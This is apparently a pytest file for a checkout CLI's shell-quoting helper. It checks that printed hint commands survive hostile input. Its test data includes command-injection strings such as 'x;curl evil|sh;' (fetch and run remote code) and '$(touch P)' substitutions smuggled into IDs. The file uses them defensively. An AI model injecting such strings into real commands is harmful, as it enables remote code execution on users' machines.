"""Commands that are printed to be typed are quoted, or not printed."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from checkout_cli.store.checkout_store import CheckoutStore
from checkout_cli.typed import is_typeable, typed, with_options
from tests.support.command import Checkoutctl

HOSTILE = [
    "x;curl evil|sh;",
    "$(touch P)",
    "`touch P`",
    "a b",
    "it's",
    "*",
    "~root",
    "",
    "a\\",
    "{}",
    "-rf",
    "--reveal",
]


@pytest.mark.parametrize("data", HOSTILE)
def test_a_shell_hands_on_what_was_meant(data: str) -> None:
    words = shlex.split(typed("checkoutctl sessions show {}", data))
    assert words[:3] == ["checkoutctl", "sessions", "show"]
    assert words[3:] == (["--", data] if data.startswith("-") else [data])
    option = "--cursor={}" if data.startswith("-") else "--cursor {}"
    assert shlex.split(typed("x --cursor {} {}", data, "1")) == ["x", *option.format(data).split(" ", 1), "1"]


@pytest.mark.parametrize("data", HOSTILE)
def test_a_part_of_a_word_stays_a_part_of_it(data: str) -> None:
    assert shlex.split(typed("REDIS_HOST={} checkoutctl ping --cursor={} {}:{}", data, data, data, data)) == [
        f"REDIS_HOST={data}",
        "checkoutctl",
        "ping",
        f"--cursor={data}",
        *([f"{data}:{data}"] if not data.startswith("-") else ["--", f"{data}:{data}"]),
    ]


@pytest.mark.parametrize("data", ["a\nb", "\x1b[2J", "\u202etxt", "\udcff", "\0"])
def test_what_cannot_be_typed_is_no_command(data: str) -> None:
    assert typed("checkoutctl sessions show {}", data) == ""


@pytest.mark.parametrize("checkout_id", ["x;touch P;12345", "$(touch P)", "-n-n-n-n", "a b c d e"])
def test_why_names_a_strangers_id_so_that_it_can_be_typed(
    checkout_id: str, store: CheckoutStore, checkoutctl: Checkoutctl, tmp_path: Path
) -> None:
    store.redis.ask(("SET", f"checkout:session:{checkout_id}", b"no session", "EX", 600))
    run = checkoutctl("sessions", "why", "--", checkout_id)
    hint = run.stderr.split("next: ")[1].splitlines()[0]
    words = shlex.split(hint)
    assert words[:2] == ["checkoutctl", "sessions"]
    assert words[-1] == checkout_id
    assert ("--" in words) is checkout_id.startswith("-")


@pytest.mark.parametrize(
    "text",
    [
        "checkoutctl doctor --only connect",
        "kill -CONT 123",
        "sleep 5; checkoutctl health",
        "REDIS_PORT=1 checkoutctl ping && checkoutctl sync",
        "redis-cli -h 127.0.0.1 CONFIG SET maxmemory-policy noeviction",
        "find / -name 'dump*.rdb' 2> /dev/null",
        "/usr/bin/valkey-server '/srv/the shop/redis.conf' --daemonize yes",
        "pip install 'checkoutctl[serve]'",
    ],
)
def test_what_can_be_typed_as_it_is(text: str) -> None:
    assert is_typeable(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "leave it out",
        "set REDIS_MODE=cluster",
        "checkoutctl config show; check REDIS_HOST",
        "checkoutctl memory show, then checkoutctl memory tune",
        "checkoutctl sessions delete ID",
        "checkoutctl config show: CHECKOUT_SESSION_TTL is too long",
        "the same command with --yes",
        "kill 'it",
        "--limit 50",
        "REDIS_PORT=1",
    ],
)
def test_what_a_person_would_have_to_read_first(text: str) -> None:
    assert not is_typeable(text)


def test_global_options_are_typed_again_and_no_server_is_written_into_a_file() -> None:
    directory, servers = "-C '/the shop'", "--redis-port 7"
    assert with_options("checkoutctl health", directory, servers) == f"checkoutctl {directory} {servers} health"
    both = with_options("checkoutctl config set A=1 && checkoutctl health", directory, servers)
    assert both == f"checkoutctl {directory} config set A=1 && checkoutctl {directory} {servers} health"
    assert with_options("kill -CONT 7", directory, servers) == "kill -CONT 7"
    assert with_options("echo checkoutctl x", directory, servers) == "echo checkoutctl x"


def test_a_line_break_in_an_id_makes_no_command(store: CheckoutStore, checkoutctl: Checkoutctl) -> None:
    store.redis.ask(("SET", "checkout:session:a\nb", b"no session", "EX", 600))
    assert checkoutctl("sessions", "why", "a\nb").stderr == "next: checkoutctl doctor\n"
